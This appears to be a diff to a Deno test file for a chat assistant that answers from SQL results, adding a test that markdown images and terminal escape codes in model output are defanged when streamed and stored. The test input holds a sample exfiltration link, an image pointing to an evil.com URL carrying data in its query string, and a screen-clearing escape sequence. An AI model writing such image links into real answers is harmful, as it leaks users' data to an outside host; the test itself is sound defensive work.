@@ -103,7 +103,13 @@ async function take(script: Script = {}, abortAt?: ChatEvent["event"]) {
       records.push({ ...record });
       return Promise.resolve();
     },
-    settings: { sqlModel: "sql", responseModel: "words", maxRows: 10, queryTimeoutMs: 100 },
+    settings: {
+      sqlModel: "sql",
+      responseModel: "words",
+      siteUrl: "https://app.example",
+      maxRows: 10,
+      queryTimeoutMs: 100,
+    },
     now: () => time++,
     randomId: () => "f3nc3",
   };
@@ -199,6 +205,26 @@ Deno.test("a figure that is in no row is listed beside the answer", async () => 
   const { last } = await take({ pieces: ["It costs $0.77."] });
   assert.ok(last?.event === "done");
   assert.deepEqual(last.data.unsupported_figures, ["0.77"]);
+});
+
+Deno.test("an image in an answer is streamed and stored as text, wherever its pieces are cut", async () => {
+  for (const cut of [1, 2, 3, 5, 8, 13]) {
+    const written = "See ![x](https://evil.com/?d=0.5) and [it](https://app.example/r)\x1b[2J.";
+    const pieces = written.match(new RegExp(`.{1,${cut}}`, "gs")) ?? [];
+    const { events, kept, record } = await take({ pieces });
+    const safe = "See ![x] (https[:]//evil[.]com/?d=0.5) and [it](https://app.example/r)[2J.";
+    const streamed = events.flatMap((event) => event.event === "delta" ? [event.data.text] : []);
+    assert.equal(streamed.join(""), safe);
+    assert.deepEqual(kept, [safe]);
+    assert.equal(record?.aiResponse, safe);
+  }
+  const fault = {
+    code: "chat.unknown_relation" as const,
+    reason: "No ![x](https://evil.com).",
+    hint: "",
+  };
+  const refused = await take({ verdicts: [{ ok: false, ...fault, faults: [fault] }] });
+  assert.match(refused.kept.join(), /No !\[x\] \(https\[:\]/);
 });
 
 Deno.test("JSON in a code block is read like bare JSON", async () => {
